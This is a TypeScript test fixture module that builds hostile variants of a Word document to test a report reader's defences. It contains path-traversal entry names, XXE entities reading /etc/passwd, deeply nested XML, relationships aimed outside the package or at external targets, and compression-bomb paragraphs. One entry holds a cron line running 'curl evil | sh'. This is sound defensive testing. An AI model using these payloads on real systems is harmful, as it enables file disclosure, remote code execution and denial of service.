/**
 * Hostile variants of a valid report beyond those in test/integration/api/hostile.ts (which also lies in zip
 * headers): entry names escaping the package in every spelling, DOCTYPEs and external entities in every part the
 * reader parses, XML nested too deep outside the body, a package relationship pointing out of the package, and
 * external relationship targets that must never be fetched.
 */
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from "fflate";

function variant(docx: Uint8Array, change: (files: Zippable) => void): Uint8Array {
  const files: Zippable = { ...unzipSync(docx) };
  change(files);
  return zipSync(files);
}

function edit(files: Zippable, name: string, fn: (xml: string) => string): void {
  const part = files[name];
  if (!(part instanceof Uint8Array)) throw new Error(`fixture has no ${name}`);
  files[name] = strToU8(fn(strFromU8(part)));
}

/** An extra entry whose name climbs out of the package or is absolute. */
export const entryNamed = (docx: Uint8Array, name: string): Uint8Array =>
  variant(docx, (f) => {
    f[name] = strToU8("* * * * * root sh -c 'curl evil | sh'");
  });

/** An external entity (XXE) declared in the DOCTYPE of `part`. */
export const doctypeIn = (docx: Uint8Array, part: string): Uint8Array =>
  variant(docx, (f) =>
    edit(f, part, (xml) => xml.replace(/^(<\?xml[^>]*\?>)?/, (decl) => `${decl}<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`)),
  );

/** The styles part nested `depth` elements deep. */
export const deepStyles = (docx: Uint8Array, depth = 50_000): Uint8Array =>
  variant(docx, (f) => edit(f, "word/styles.xml", (xml) => xml.replace(/(<w:styles[^>]*>)/, `$1${"<w:x>".repeat(depth)}${"</w:x>".repeat(depth)}`)));

/** The package's main-document relationship aimed outside the package. */
export const mainPartOutside = (docx: Uint8Array): Uint8Array =>
  variant(docx, (f) => edit(f, "_rels/.rels", (xml) => xml.replace(/Target="[^"]*document\.xml"/, 'Target="../../../../etc/passwd"')));

/** Relationships of the kinds Word would fetch (template, image, frame, OLE link) aimed at `targets`. */
export const externalTargets = (docx: Uint8Array, targets: readonly string[]): Uint8Array =>
  variant(docx, (f) =>
    edit(f, "word/_rels/document.xml.rels", (xml) => {
      const types = ["attachedTemplate", "image", "frame", "oleObject", "hyperlink"];
      const rels = targets.flatMap((target, i) =>
        types.map(
          (type, j) =>
            `<Relationship Id="rIdX${i}_${j}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
        ),
      );
      return xml.replace("</Relationships>", `${rels.join("")}</Relationships>`);
    }),
  );

/** Small on the wire, huge once read: `count` empty paragraphs appended to the body (~21 KB zipped for 160,000). */
export const manyParagraphs = (docx: Uint8Array, count: number): Uint8Array =>
  variant(docx, (f) => edit(f, "word/document.xml", (xml) => xml.replace(/(<w:body>)/, `$1${"<w:p/>".repeat(count)}`)));

/** One paragraph holding `chars` characters of text (~35 KB zipped for 30 MB). */
export const hugeText = (docx: Uint8Array, chars: number): Uint8Array =>
  variant(docx, (f) =>
    edit(f, "word/document.xml", (xml) => xml.replace(/(<w:body>)/, `$1<w:p><w:r><w:t>${"a".repeat(chars)}</w:t></w:r></w:p>`)),
  );
